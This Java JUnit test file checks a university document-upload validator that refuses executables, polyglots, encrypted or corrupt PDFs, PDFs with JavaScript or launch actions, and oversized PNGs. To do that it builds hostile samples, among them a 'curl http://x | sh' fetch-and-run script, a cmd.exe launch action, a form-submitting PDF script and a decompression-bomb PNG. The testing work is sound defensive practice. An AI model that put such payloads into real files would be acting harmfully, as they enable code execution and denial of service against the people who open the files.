package fr.univlorraine.ieps.documents;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.IIOImage;
import javax.imageio.ImageIO;
import javax.imageio.ImageWriteParam;
import javax.imageio.ImageWriter;
import javax.imageio.stream.ImageOutputStream;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ContentInspectorTest {

    private static final Set<FileKind> ALL = EnumSet.allOf(FileKind.class);
    private static final Set<FileKind> PDF_ONLY = EnumSet.of(FileKind.PDF);

    @TempDir
    Path dir;

    // ---- accepted

    @Test
    void validPdfIsAcceptedWithItsPageCount() throws Exception {
        ContentInspector.Inspection inspection = ContentInspector.inspect(pdf(dir, "cv.pdf", 7, "CV"), ALL);
        assertEquals(FileKind.PDF, inspection.kind());
        assertEquals(7, inspection.pageCount());
    }

    @Test
    void validJpegIsAccepted() throws Exception {
        assertEquals(new ContentInspector.Inspection(FileKind.JPEG, 1),
                ContentInspector.inspect(jpeg(dir, "id.jpg", 320, 200), ALL));
    }

    @Test
    void validPngIsAccepted() throws Exception {
        assertEquals(new ContentInspector.Inspection(FileKind.PNG, 1),
                ContentInspector.inspect(png(dir, "id.png", 320, 200), ALL));
    }

    @Test
    void extensionIsIgnored() throws Exception {
        Path pdfNamedJpg = Files.move(pdf(dir, "a.pdf", 2, "A"), dir.resolve("photo.jpg"));
        Path pngNamedPdf = Files.move(png(dir, "b.png", 50, 50), dir.resolve("diplome.pdf"));
        assertEquals(FileKind.PDF, ContentInspector.inspect(pdfNamedJpg, ALL).kind());
        assertEquals(FileKind.PNG, ContentInspector.inspect(pngNamedPdf, ALL).kind());
    }

    @Test
    void pdfWithWebLinkIsAccepted() throws Exception {
        Path file = pdfWith(dir, "links.pdf", document -> {
            PDActionURI uri = new PDActionURI();
            uri.setURI("https://www.univ-lorraine.fr/");
            addLink(document.getPage(0), uri);
        });
        assertEquals(FileKind.PDF, ContentInspector.inspect(file, ALL).kind());
    }

    @Test
    void pdfWithWhitespaceAfterEndMarkerIsAccepted() throws Exception {
        Path file = pdf(dir, "cv.pdf", 1, "CV");
        Files.write(file, "\r\n\n  \n".getBytes(StandardCharsets.US_ASCII), java.nio.file.StandardOpenOption.APPEND);
        assertEquals(1, ContentInspector.inspect(file, ALL).pageCount());
    }

    @Test
    void jpegWithDataAfterEndOfImageIsAccepted() throws Exception {
        // Phones append a motion-photo video or vendor trailer after the end-of-image marker.
        Path file = jpeg(dir, "photo.jpg", 120, 80);
        byte[] trailer = new byte[5000];
        new Random(1).nextBytes(trailer);
        Files.write(file, concat(Files.readAllBytes(file), trailer));
        assertEquals(FileKind.JPEG, ContentInspector.inspect(file, ALL).kind());
    }

    @Test
    void progressiveJpegIsAccepted() throws Exception {
        // Several scans separated by tables: the end-of-image walk must not stop at the first one.
        Path file = dir.resolve("progressive.jpg");
        ImageWriter writer = ImageIO.getImageWritersByFormatName("jpeg").next();
        ImageWriteParam param = writer.getDefaultWriteParam();
        param.setProgressiveMode(ImageWriteParam.MODE_DEFAULT);
        try (ImageOutputStream out = ImageIO.createImageOutputStream(file.toFile())) {
            writer.setOutput(out);
            writer.write(null, new IIOImage(picture(300, 200, BufferedImage.TYPE_INT_RGB), null, null), param);
        } finally {
            writer.dispose();
        }
        assertEquals(FileKind.JPEG, ContentInspector.inspect(file, ALL).kind());
        byte[] whole = Files.readAllBytes(file);
        assertRefused(DocumentError.IMAGE_CORRUPT, write(dir, "cut.jpg", Arrays.copyOf(whole, whole.length * 6 / 10)), ALL);
    }

    // ---- not a document

    @Test
    void emptyFileIsRefused() throws Exception {
        assertRefused(DocumentError.FILE_EMPTY, write(dir, "cv.pdf", new byte[0]), ALL);
    }

    @Test
    void windowsExecutableIsRefused() throws Exception {
        assertRefused(DocumentError.FILE_EXECUTABLE, write(dir, "cv.pdf", concat(ascii("MZ"), new byte[510])), ALL);
    }

    @Test
    void elfIsRefused() throws Exception {
        assertRefused(DocumentError.FILE_EXECUTABLE, write(dir, "cv.pdf", concat(new byte[] {0x7F, 'E', 'L', 'F'}, new byte[60])), ALL);
    }

    @Test
    void machOIsRefused() throws Exception {
        byte[] machO = {(byte) 0xCF, (byte) 0xFA, (byte) 0xED, (byte) 0xFE, 7, 0, 0, 1};
        assertRefused(DocumentError.FILE_EXECUTABLE, write(dir, "photo.png", concat(machO, new byte[60])), ALL);
        byte[] universal = {(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE, 0, 0, 0, 2};
        assertRefused(DocumentError.FILE_EXECUTABLE, write(dir, "photo.jpg", concat(universal, new byte[60])), ALL);
    }

    @Test
    void shellScriptIsRefused() throws Exception {
        assertRefused(DocumentError.FILE_EXECUTABLE, write(dir, "cv.pdf", ascii("#!/bin/sh\ncurl http://x | sh\n")), ALL);
    }

    @Test
    void htmlSavedAsPdfIsRefused() throws Exception {
        byte[] html = ascii("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>");
        assertRefused(DocumentError.FILE_TYPE, write(dir, "cv.pdf", html), ALL);
    }

    @Test
    void zipOrDocxIsRefused() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write(ascii("<Types/>"));
            zip.closeEntry();
        }
        assertRefused(DocumentError.FILE_TYPE, write(dir, "cv.docx", bytes.toByteArray()), ALL);
        assertRefused(DocumentError.FILE_TYPE, write(dir, "cv.pdf", bytes.toByteArray()), ALL);
    }

    @Test
    void plainTextGifAndWebpAreRefused() throws Exception {
        assertRefused(DocumentError.FILE_TYPE, write(dir, "cv.pdf", ascii("Curriculum vitae\n")), ALL);
        assertRefused(DocumentError.FILE_TYPE, write(dir, "a.png", concat(ascii("GIF89a"), new byte[40])), ALL);
        assertRefused(DocumentError.FILE_TYPE, write(dir, "b.png", concat(ascii("RIFF\0\0\0\0WEBPVP8 "), new byte[40])), ALL);
    }

    @Test
    void polyglotIsRefused() throws Exception {
        byte[] prefix = new byte[100];
        Arrays.fill(prefix, (byte) ' ');
        System.arraycopy(ascii("<html><!--"), 0, prefix, 0, 10);
        byte[] polyglot = concat(prefix, Files.readAllBytes(pdf(dir, "real.pdf", 1, "CV")));
        assertRefused(DocumentError.FILE_POLYGLOT, write(dir, "cv.pdf", polyglot), ALL);
    }

    @Test
    void pngWhenOnlyPdfAcceptedIsRefused() throws Exception {
        assertRefused(DocumentError.FILE_TYPE_NOT_ACCEPTED, png(dir, "cv.pdf", 40, 40), PDF_ONLY);
    }

    // ---- unsound PDFs

    @Test
    void encryptedPdfIsRefused() throws Exception {
        assertRefused(DocumentError.PDF_ENCRYPTED, encryptedPdf(dir, "locked.pdf", "secret"), ALL);
    }

    @Test
    void ownerPasswordOnlyPdfIsRefused() throws Exception {
        // Opens without a password, but is still encrypted and restricted.
        assertRefused(DocumentError.PDF_ENCRYPTED, encryptedPdf(dir, "restricted.pdf", ""), ALL);
    }

    @Test
    void truncatedPdfIsRefused() throws Exception {
        byte[] whole = Files.readAllBytes(pdf(dir, "whole.pdf", 10, "Relevé"));
        assertRefused(DocumentError.PDF_CORRUPT, write(dir, "cut.pdf", Arrays.copyOf(whole, whole.length * 6 / 10)), ALL);
    }

    @Test
    void truncatedPdfWithForgedEndMarkerIsRefused() throws Exception {
        // Without object streams, PDFBox's repair finds the pages of a cut file: only reading each one fails.
        for (CompressParameters compression : new CompressParameters[] {CompressParameters.NO_COMPRESSION,
                CompressParameters.DEFAULT_COMPRESSION}) {
            byte[] whole = Files.readAllBytes(pdf(dir, "whole.pdf", 10, "Relevé", compression));
            byte[] forged = concat(Arrays.copyOf(whole, whole.length * 6 / 10), ascii("\n%%EOF\n"));
            assertRefused(DocumentError.PDF_CORRUPT, write(dir, "cut.pdf", forged), ALL);
        }
    }

    @Test
    void pdfWithoutPagesIsRefused() throws Exception {
        Path file = dir.resolve("empty.pdf");
        try (PDDocument document = new PDDocument()) {
            document.save(file.toFile());
        }
        assertRefused(DocumentError.PDF_CORRUPT, file, ALL);
    }

    @Test
    void garbageAfterPdfHeaderIsRefused() throws Exception {
        assertRefused(DocumentError.PDF_CORRUPT, write(dir, "cv.pdf", ascii("%PDF-1.7\nnothing to see here\n%%EOF\n")), ALL);
    }

    @Test
    void pdfWithOpenActionJavaScriptIsRefused() throws Exception {
        Path file = pdfWith(dir, "js.pdf",
                document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('hi')")));
        assertRefused(PdfRefusal.JAVASCRIPT, file);
    }

    @Test
    void pdfWithLaunchActionIsRefused() throws Exception {
        Path file = pdfWith(dir, "launch.pdf", document -> {
            PDActionLaunch launch = new PDActionLaunch();
            PDSimpleFileSpecification program = new PDSimpleFileSpecification();
            program.setFile("cmd.exe");
            launch.setFile(program);
            document.getDocumentCatalog().setOpenAction(launch);
        });
        assertRefused(PdfRefusal.ACTION, file);
    }

    @Test
    void pdfWithDocumentLevelJavaScriptIsRefused() throws Exception {
        Path file = pdfWith(dir, "names.pdf", document -> {
            PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(Map.of("init", new PDActionJavaScript("app.alert('hi')")));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setJavascript(scripts);
            document.getDocumentCatalog().setNames(names);
        });
        assertRefused(PdfRefusal.JAVASCRIPT, file);
    }

    @Test
    void pdfWithJavaScriptLinkIsRefused() throws Exception {
        Path file = pdfWith(dir, "link.pdf",
                document -> addLink(document.getPage(0), new PDActionJavaScript("this.submitForm('http://x')")));
        assertRefused(PdfRefusal.JAVASCRIPT, file);
    }

    @Test
    void pdfWithCatalogAdditionalActionsIsRefused() throws Exception {
        Path file = pdfWith(dir, "aa.pdf",
                document -> document.getDocumentCatalog().getCOSObject().setItem(COSName.AA, new COSDictionary()));
        assertRefused(PdfRefusal.AUTOMATIC_ACTION, file);
    }

    // ---- unsound images

    @Test
    void truncatedJpegIsRefused() throws Exception {
        byte[] whole = Files.readAllBytes(jpeg(dir, "whole.jpg", 400, 300));
        assertRefused(DocumentError.IMAGE_CORRUPT, write(dir, "cut.jpg", Arrays.copyOf(whole, whole.length * 6 / 10)), ALL);
    }

    @Test
    void truncatedPngIsRefused() throws Exception {
        byte[] whole = Files.readAllBytes(png(dir, "whole.png", 400, 300));
        assertRefused(DocumentError.IMAGE_CORRUPT, write(dir, "cut.png", Arrays.copyOf(whole, whole.length * 6 / 10)), ALL);
    }

    @Test
    void corruptPngDataIsRefused() throws Exception {
        // Complete structure, but the compressed pixels are noise: only decoding tells.
        byte[] noise = new byte[2000];
        new Random(7).nextBytes(noise);
        assertRefused(DocumentError.IMAGE_CORRUPT, write(dir, "noise.png", pngWithHeader(200, 200, noise)), ALL);
    }

    @Test
    void hugeImageIsRefusedBeforeDecoding() throws Exception {
        // 20000 x 20000 = 400 megapixels, i.e. 1.2 GB once decoded; the file itself is tiny.
        Deflater deflater = new Deflater();
        deflater.setInput(new byte[1000]);
        deflater.finish();
        byte[] idat = new byte[100];
        idat = Arrays.copyOf(idat, deflater.deflate(idat));
        assertRefused(DocumentError.IMAGE_TOO_LARGE, write(dir, "bomb.png", pngWithHeader(20_000, 20_000, idat)), ALL);
    }

    // ---- FileKind

    @Test
    void parseListReadsStoredKinds() {
        assertEquals(EnumSet.of(FileKind.PDF, FileKind.JPEG, FileKind.PNG), FileKind.parseList("PDF,JPEG,PNG"));
        assertEquals(EnumSet.of(FileKind.PDF), FileKind.parseList(" PDF "));
        assertEquals(EnumSet.noneOf(FileKind.class), FileKind.parseList(""));
    }

    @Test
    void parseListRefusesUnknownNames() {
        assertThrows(IllegalArgumentException.class, () -> FileKind.parseList("PDF,DOCX"));
    }

    // ---- helpers, also used by DossierPdfTest

    private static void assertRefused(DocumentError error, Path file, Set<FileKind> accepted) {
        RefusedContent refused = assertThrows(RefusedContent.class, () -> ContentInspector.inspect(file, accepted));
        assertEquals(error, refused.error, () -> String.valueOf(refused.detail));
    }

    static RefusedContent assertRefused(PdfRefusal reason, Path file) {
        return assertRefused(reason, file, PdfLimits.DEFAULTS);
    }

    static RefusedContent assertRefused(PdfRefusal reason, Path file, PdfLimits limits) {
        RefusedContent refused = assertThrows(RefusedContent.class, () -> ContentInspector.inspect(file, ALL, limits));
        assertEquals(reason, refused.error, () -> String.valueOf(refused.detail));
        return refused;
    }

    interface DocumentChange {
        void apply(PDDocument document) throws IOException;
    }

    /** A PDF of the given pages, each saying "label – page n", so tests can find pages by their text. */
    static Path pdf(Path dir, String name, int pages, String label) throws IOException {
        return pdf(dir, name, pages, label, CompressParameters.DEFAULT_COMPRESSION);
    }

    static Path pdf(Path dir, String name, int pages, String label, CompressParameters compression) throws IOException {
        Path file = dir.resolve(name);
        try (PDDocument document = new PDDocument()) {
            PDType1Font font = new PDType1Font(Standard14Fonts.FontName.HELVETICA);
            for (int n = 1; n <= pages; n++) {
                PDPage page = new PDPage(PDRectangle.A4);
                document.addPage(page);
                try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                    content.beginText();
                    content.setFont(font, 14);
                    content.newLineAtOffset(72, 760);
                    content.showText(label + " – page " + n);
                    for (int line = 0; line < 30; line++) {
                        content.newLineAtOffset(0, -18);
                        content.showText("Ligne " + line + " : moyenne générale 14,5 / 20, mention « bien ».");
                    }
                    content.endText();
                }
            }
            document.save(file.toFile(), compression);
        }
        return file;
    }

    static Path pdfWith(Path dir, String name, DocumentChange change) throws IOException {
        Path plain = pdf(dir, "plain-" + name, 1, "Plain");
        Path file = dir.resolve(name);
        try (PDDocument document = org.apache.pdfbox.Loader.loadPDF(plain.toFile())) {
            change.apply(document);
            document.save(file.toFile());
        }
        return file;
    }

    private static void addLink(PDPage page, org.apache.pdfbox.pdmodel.interactive.action.PDAction action)
            throws IOException {
        PDAnnotationLink link = new PDAnnotationLink();
        link.setRectangle(new PDRectangle(72, 700, 200, 20));
        link.setAction(action);
        page.getAnnotations().add(link);
    }

    static Path encryptedPdf(Path dir, String name, String userPassword) throws IOException {
        Path file = dir.resolve(name);
        try (PDDocument document = org.apache.pdfbox.Loader.loadPDF(pdf(dir, "clear-" + name, 2, "Secret").toFile())) {
            StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-pw", userPassword, new AccessPermission());
            policy.setEncryptionKeyLength(256);
            document.protect(policy);
            document.save(file.toFile());
        }
        return file;
    }

    static Path jpeg(Path dir, String name, int width, int height) throws IOException {
        Path file = dir.resolve(name);
        ImageIO.write(picture(width, height, BufferedImage.TYPE_INT_RGB), "jpg", file.toFile());
        return file;
    }

    static Path png(Path dir, String name, int width, int height) throws IOException {
        Path file = dir.resolve(name);
        ImageIO.write(picture(width, height, BufferedImage.TYPE_INT_ARGB), "png", file.toFile());
        return file;
    }

    /** Gradient plus noise: compresses into enough bytes for a cut to land inside the pixel data. */
    private static BufferedImage picture(int width, int height, int type) {
        BufferedImage image = new BufferedImage(width, height, type);
        Random random = new Random(42);
        for (int y = 0; y < height; y++) {
            for (int x = 0; x < width; x++) {
                int noise = random.nextInt(40);
                image.setRGB(x, y, new Color((x * 255 / width + noise) % 256, (y * 255 / height) % 256, noise * 4).getRGB());
            }
        }
        Graphics2D graphics = image.createGraphics();
        graphics.setColor(Color.BLACK);
        graphics.drawString("Diplôme", 10, 20);
        graphics.dispose();
        return image;
    }

    /** A PNG whose header claims the given size, with the given compressed pixel data. */
    private static byte[] pngWithHeader(int width, int height, byte[] idat) {
        ByteBuffer header = ByteBuffer.allocate(13).putInt(width).putInt(height);
        header.put((byte) 8).put((byte) 2).put((byte) 0).put((byte) 0).put((byte) 0);
        byte[] signature = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'};
        return concat(signature, concat(chunk("IHDR", header.array()), concat(chunk("IDAT", idat), chunk("IEND", new byte[0]))));
    }

    private static byte[] chunk(String type, byte[] data) {
        byte[] typeBytes = ascii(type);
        CRC32 crc = new CRC32();
        crc.update(typeBytes);
        crc.update(data);
        return ByteBuffer.allocate(12 + data.length)
                .putInt(data.length).put(typeBytes).put(data).putInt((int) crc.getValue()).array();
    }

    static Path write(Path dir, String name, byte[] bytes) throws IOException {
        return Files.write(dir.resolve(name), bytes);
    }

    static byte[] concat(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }
}
